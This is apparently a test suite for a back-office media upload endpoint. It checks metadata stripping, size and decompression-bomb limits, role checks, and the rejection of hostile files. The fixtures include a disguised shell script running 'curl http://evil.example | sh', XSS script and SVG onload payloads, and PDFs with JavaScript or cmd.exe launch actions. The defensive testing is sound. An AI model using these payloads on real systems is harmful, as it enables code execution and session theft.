import sharp from 'sharp';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { backends } from '../../testing/testEnv';
import { createTestApp, type TestApp } from '../../testing/testApp';
import { createStaff, signIn } from '../../testing/testStaff';
import type { TestVisitor } from '../../testing/testVisitor';
import { uploadMessages } from './uploadChecks';

const upload = (browser: TestVisitor, bytes: Buffer, name: string) =>
  browser.request({ method: 'POST', url: `/api/admin/media/?name=${encodeURIComponent(name)}`, payload: bytes, headers: { 'content-type': 'application/octet-stream' } });

async function photo(): Promise<Buffer> {
  return sharp({ create: { width: 1200, height: 800, channels: 3, background: '#3c8d5a' } })
    .jpeg()
    .withExif({ IFD0: { Copyright: 'SECRET-OWNER', Artist: 'SECRET-AUTHOR' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 0/1' } })
    .toBuffer();
}

async function pdf(active: (document: PDFDocument) => void = () => undefined, objectStreams = false): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([595, 842]).drawText('Проектная декларация'.replace(/[^\x20-\x7e]/g, '?'));
  active(document);
  return Buffer.from(await document.save({ useObjectStreams: objectStreams }));
}

describe.each(backends())('uploads to the back office on %s', (backend) => {
  let test: TestApp;
  let editor: TestVisitor;

  beforeAll(async () => {
    test = await createTestApp(backend);
    editor = (await signIn(test, await createStaff(test.db, 'editor'))).browser;
  });
  afterAll(() => test?.close());

  it('re-encodes a photo without its metadata and serves it through the image proxy', async () => {
    const original = await photo();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const response = await upload(editor, Buffer.concat([original, Buffer.from('<script>alert(1)</script>')]), 'фото.jpg');
    expect(response.statusCode).toBe(201);
    const { path, url, width, height } = response.json<{ path: string; url: string; width: number; height: number }>();
    expect([url, width, height]).toEqual([`/img/${path}`, 1200, 800]);
    const stored = (await test.db.query<{ data: Buffer }>('select data from images where path = $1', [path])).rows[0]!.data;
    const meta = await sharp(Buffer.from(stored)).metadata();
    expect(meta.exif).toBeUndefined();
    expect(Buffer.from(stored).includes('SECRET-OWNER')).toBe(false);
    expect(Buffer.from(stored).includes('<script>')).toBe(false);
    const served = await editor.get(`${url}?size=640&format=webp`);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    const audit = await test.db.query('select 1 from audit_log where action = $1 and record_id = $2', ['upload', path]);
    expect(audit.rows).toHaveLength(1);
  });

  it('refuses a script named .png, an SVG, and a file of no known kind, by content', async () => {
    for (const [bytes, name] of [
      [Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'cover.png'],
      [Buffer.from('<script>alert(document.cookie)</script>'), 'photo.jpg'],
      [Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.svg'],
      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'logo.png'],
    ] as const) {
      const response = await upload(editor, bytes, name);
      expect([name, response.statusCode, response.json()]).toEqual([name, 400, { file: [uploadMessages.kind] }]);
    }
  });

  it('refuses an image over the size limit (413) and a broken one (400)', async () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x20);
    Buffer.from([0xff, 0xd8, 0xff, 0xe0]).copy(huge);
    const tooLarge = await upload(editor, huge, 'huge.jpg');
    expect(tooLarge.statusCode).toBe(413);
    const broken = await upload(editor, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 7)]), 'broken.jpg');
    expect(broken.statusCode).toBe(400);
    expect(broken.json()).toEqual({ file: [uploadMessages.badImage] });
  });

  it('refuses a decompression bomb', async () => {
    const bomb = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#ffffff' } }).png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.length).toBeLessThan(15 * 1024 * 1024);
    const response = await upload(editor, bomb, 'bomb.png');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ file: [uploadMessages.tooManyPixels] });
  });

  it('stores a plain PDF and serves it; refuses PDFs with JavaScript, launch actions or attachments', async () => {
    const clean = await upload(editor, await pdf(), 'декларация.pdf');
    expect(clean.statusCode).toBe(201);
    const { url, size } = clean.json<{ url: string; size: number }>();
    expect(url).toMatch(/^\/api\/files\/documents\/[0-9a-f]{24}\.pdf$/);
    const served = await editor.get(url);
    expect([served.statusCode, served.headers['content-type'], Number(served.headers['content-length'] ?? served.rawPayload.length)]).toEqual([200, 'application/pdf', size]);

    const hostile: [string, (document: PDFDocument) => void, boolean][] = [
      ['open action script', (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') })), false],
      ['the same inside an object stream', (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') })), true],
      ['document-level script', (document) => document.catalog.set(PDFName.of('Names'), document.context.obj({ JavaScript: document.context.obj({ Names: [PDFString.of('x'), document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(2)') })] }) })), true],
      ['page additional action', (document) => document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: document.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }) })), true],
      ['attachment', (document) => document.catalog.set(PDFName.of('Names'), document.context.obj({ EmbeddedFiles: document.context.obj({ Names: [] }) })), false],
    ];
    for (const [what, make, objectStreams] of hostile) {
      const response = await upload(editor, await pdf(make, objectStreams), `${what}.pdf`);
      expect([what, response.statusCode, response.json()]).toEqual([what, 400, { file: [uploadMessages.activePdf] }]);
    }
    const broken = await upload(editor, Buffer.from('%PDF-1.7\n garbage without objects'), 'broken.pdf');
    expect(broken.statusCode).toBe(400);
  });

  it('refuses uploads to a role without media (sales) before reading the body', async () => {
    const sales = (await signIn(test, await createStaff(test.db, 'sales'))).browser;
    expect((await upload(sales, await photo(), 'photo.jpg')).statusCode).toBe(403);
  });
});
